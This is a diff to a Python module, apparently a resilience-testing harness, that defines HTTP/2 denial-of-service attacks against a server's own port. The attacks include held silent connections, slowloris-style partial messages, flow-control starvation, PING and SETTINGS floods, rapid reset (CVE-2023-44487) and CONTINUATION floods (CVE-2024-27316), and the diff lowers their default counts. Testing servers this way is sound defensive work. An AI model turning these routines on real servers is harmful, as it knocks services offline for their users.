@@ -1,6 +1,6 @@
 """What somebody without a key can do to the port of a cloud: attacks, each held for as long as its context lasts.
 
-    python -m isthmus.experiments.stranger 127.0.0.1:7443 compressed_watches 10
+    python -m isthmus.experiments.abuse.stranger 127.0.0.1:7443 compressed_watches 10
 
 does one of `ATTACKS` and holds it for 10 seconds. Tests and benchmarks call the functions themselves: `with
 ATTACKS[name](host, port):` has done the attack when its body begins, and lets go of everything at its end. That a
@@ -232,19 +232,19 @@ def _compressed(host: str, port: int, method: str, message: bytes, count: int) -
 
 
 @contextlib.contextmanager
-def silent_connections(host: str, port: int, count: int = 512) -> Iterator[list[Connection]]:
+def silent_connections(host: str, port: int, count: int = 256) -> Iterator[list[Connection]]:
     """Connect, and say nothing."""
     yield from _held(lambda: Connection(host, port, b"", mute=True), count)
 
 
 @contextlib.contextmanager
-def half_prefaces(host: str, port: int, count: int = 512) -> Iterator[list[Connection]]:
+def half_prefaces(host: str, port: int, count: int = 256) -> Iterator[list[Connection]]:
     """Connect, and stop in the middle of the preface."""
     yield from _held(lambda: Connection(host, port, PREFACE[:-1], mute=True), count)
 
 
 @contextlib.contextmanager
-def idle_connections(host: str, port: int, count: int = 512) -> Iterator[list[Connection]]:
+def idle_connections(host: str, port: int, count: int = 256) -> Iterator[list[Connection]]:
     """Connect with HTTP/2, and open no stream."""
     yield from _held(lambda: Connection(host, port), count)
 
@@ -259,20 +259,20 @@ def _held(connect: Callable[[], Connection], count: int) -> Iterator[list[Connec
 
 
 @contextlib.contextmanager
-def silent_streams(host: str, port: int, connections: int = 4, streams: int = 256) -> Iterator[list[Connection]]:
+def silent_streams(host: str, port: int, connections: int = 2, streams: int = 256) -> Iterator[list[Connection]]:
     """Open sessions, and say nothing in them."""
     yield from _streams(host, port, connections, streams, METHOD)
 
 
 @contextlib.contextmanager
-def silent_checks(host: str, port: int, connections: int = 4, streams: int = 256) -> Iterator[list[Connection]]:
+def silent_checks(host: str, port: int, connections: int = 2, streams: int = 256) -> Iterator[list[Connection]]:
     """Ask for health, and never say of what."""
     yield from _streams(host, port, connections, streams, CHECK)
 
 
 @contextlib.contextmanager
 def large_headers(
-    host: str, port: int, connections: int = 4, streams: int = 256, size: int = 7000
+    host: str, port: int, connections: int = 2, streams: int = 256, size: int = 7000
 ) -> Iterator[list[Connection]]:
     """Open sessions with header fields as long as a server takes, and say nothing in them."""
     yield from _streams(host, port, connections, streams, METHOD, field(b"x-long", b"a" * size))
@@ -280,7 +280,7 @@ def large_headers(
 
 @contextlib.contextmanager
 def unfinished_messages(
-    host: str, port: int, connections: int = 4, streams: int = 64, size: int = 1 << 20
+    host: str, port: int, connections: int = 2, streams: int = 64, size: int = 1 << 20
 ) -> Iterator[list[Connection]]:
     """Open sessions, and send all but the last byte of a first frame."""
     body = b"\0" + size.to_bytes(4) + bytes(size - 1)
@@ -289,7 +289,7 @@ def unfinished_messages(
 
 @contextlib.contextmanager
 def unfinished_checks(
-    host: str, port: int, connections: int = 4, streams: int = 64, size: int = 1 << 20
+    host: str, port: int, connections: int = 2, streams: int = 64, size: int = 1 << 20
 ) -> Iterator[list[Connection]]:
     """Ask for health, and send all but the last byte of a question."""
     body = b"\0" + size.to_bytes(4) + bytes(size - 1)
@@ -298,7 +298,7 @@ def unfinished_checks(
 
 @contextlib.contextmanager
 def unread_frames(
-    host: str, port: int, connections: int = 4, streams: int = 64, size: int = 1 << 23
+    host: str, port: int, connections: int = 2, streams: int = 64, size: int = 1 << 23
 ) -> Iterator[list[Connection]]:
     """Open sessions, and send as many frames as the windows take, before the server has asked for any."""
     body = (b"\0" + (1 << 14).to_bytes(4) + bytes(1 << 14)) * (size >> 14)
@@ -319,21 +319,21 @@ def _streams(
         connection = Connection(host, port, opening)
         opened = [connection.request(method, extra) for _ in range(streams)]
         for stream in opened if body else ():
-            connection.data(stream, body, 0.2)
+            connection.data(stream, body, 0.02)
         return connection
 
     yield from _held(connect, connections)
 
 
 @contextlib.contextmanager
-def starved_streams(host: str, port: int, connections: int = 4, streams: int = 256) -> Iterator[list[Connection]]:
+def starved_streams(host: str, port: int, connections: int = 2, streams: int = 256) -> Iterator[list[Connection]]:
     """Begin handshakes, and leave no window for the answers."""
     starved = PREFACE + frame(SETTINGS, 0, 0, struct.pack("!HI", INITIAL_WINDOW, 0))
     yield from _streams(host, port, connections, streams, METHOD, b"", _message(_hello()), starved)
 
 
 @contextlib.contextmanager
-def starved_checks(host: str, port: int, connections: int = 4, streams: int = 256) -> Iterator[list[Connection]]:
+def starved_checks(host: str, port: int, connections: int = 2, streams: int = 256) -> Iterator[list[Connection]]:
     """Ask for health, and leave no window for the answers."""
     starved = PREFACE + frame(SETTINGS, 0, 0, struct.pack("!HI", INITIAL_WINDOW, 0))
     yield from _streams(host, port, connections, streams, CHECK, b"", _message(b""), starved)
@@ -351,13 +351,13 @@ def _message(raw: bytes) -> bytes:
 
 
 @contextlib.contextmanager
-def pings(host: str, port: int, connections: int = 4, count: int = 100_000) -> Iterator[list[Connection]]:
+def pings(host: str, port: int, connections: int = 2, count: int = 50_000) -> Iterator[list[Connection]]:
     """Send HTTP/2 pings, and read none of the acknowledgements."""
     yield from _flood(host, port, connections, frame(PING, 0, 0, bytes(8)), count)
 
 
 @contextlib.contextmanager
-def settings(host: str, port: int, connections: int = 4, count: int = 100_000) -> Iterator[list[Connection]]:
+def settings(host: str, port: int, connections: int = 2, count: int = 50_000) -> Iterator[list[Connection]]:
     """Send settings, and read none of the acknowledgements."""
     yield from _flood(host, port, connections, frame(SETTINGS, 0, 0), count)
 
@@ -374,7 +374,7 @@ def _flood(host: str, port: int, connections: int, one: bytes, count: int) -> It
 
 
 @contextlib.contextmanager
-def resets(host: str, port: int, connections: int = 4, count: int = 10_000) -> Iterator[list[Connection]]:
+def resets(host: str, port: int, connections: int = 2, count: int = 2000) -> Iterator[list[Connection]]:
     """Open streams, and reset each at once (the "rapid reset" of CVE-2023-44487)."""
 
     def connect() -> Connection:
@@ -388,7 +388,7 @@ def resets(host: str, port: int, connections: int = 4, count: int = 10_000) -> I
 
 
 @contextlib.contextmanager
-def continuations(host: str, port: int, connections: int = 4, count: int = 1000) -> Iterator[list[Connection]]:
+def continuations(host: str, port: int, connections: int = 2, count: int = 500) -> Iterator[list[Connection]]:
     """Open a stream whose header fields do not end (CVE-2024-27316)."""
 
     def connect() -> Connection:
